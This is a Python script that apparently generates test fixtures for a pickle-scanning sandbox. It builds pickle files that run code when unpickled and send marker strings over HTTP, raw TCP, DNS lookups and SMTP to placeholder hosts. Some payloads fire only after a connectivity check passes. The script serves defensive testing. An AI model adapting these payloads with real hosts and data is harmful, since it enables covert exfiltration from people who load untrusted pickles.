#!/usr/bin/env python3
"""Writes pickles for the emulated network's probe tests (issue 15): payloads that act only when the network works,
and thieves that send a marker out by HTTP, raw TCP, DNS and SMTP. Writes manifest.json: for each file, the
destination (name, port) the report must show and the marker the captured bytes (or DNS questions) must contain.

    network_payloads.py OUTDIR --canary PATH --port N

Python 3 standard library only; nothing is unpickled here. Destinations are made-up names (*.example.invalid) and the
test's loopback port: outside a sandbox the names do not resolve and the loopback listener is the test's own.
"""
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pickles  # noqa: E402
from pickles import Call, Global  # noqa: E402

out = sys.argv[1]
port = int(sys.argv[sys.argv.index("--port") + 1])
os.makedirs(out, exist_ok=True)
MANIFEST = []


def write(name, code, destination, dport, marker, dns=False):
    data = pickles.assemble(Call(Global("builtins", "exec"), (code, {})), 2)[0]
    with open(os.path.join(out, name), "wb") as f:
        f.write(data)
    MANIFEST.append({"file": name, "name": destination, "port": dport, "marker": marker, "dns": dns})


GATE = """
import socket
def online():
    try:
        socket.getaddrinfo("pypi.org", 443)
        socket.create_connection(("pypi.org", 443), timeout=3).close()
        return True
    except OSError:
        return False
"""

write("gated_http_post.pkl", GATE + """
if online():
    import http.client
    c = http.client.HTTPConnection("collector.example.invalid", 80, timeout=3)
    c.request("POST", "/v1/collect", body=b"marker=NETMARK-HTTP-5e1f")
    c.getresponse().read()
""", "collector.example.invalid", 80, "NETMARK-HTTP-5e1f")

write("gated_raw_tcp.pkl", GATE + """
if online():
    s = socket.create_connection(("127.0.0.1", %d), timeout=3)
    s.sendall(b"NETMARK-TCP-77aa")
    s.close()
""" % port, None, port, "NETMARK-TCP-77aa")

write("dns_exfil.pkl", """
import socket
try:
    socket.getaddrinfo("netmark-dns-19c3.exfil.example.invalid", 80)
except OSError:
    pass
""", None, 53, "netmark-dns-19c3", dns=True)

write("smtp_exfil.pkl", """
import smtplib
s = smtplib.SMTP("mail.example.invalid", 25, timeout=3)
s.sendmail("a@example.invalid", ["b@example.invalid"], "Subject: x\\r\\n\\r\\nNETMARK-SMTP-0b0b")
s.quit()
""", "mail.example.invalid", 25, "NETMARK-SMTP-0b0b")

with open(os.path.join(out, "manifest.json"), "w") as f:
    json.dump(MANIFEST, f, indent=1)
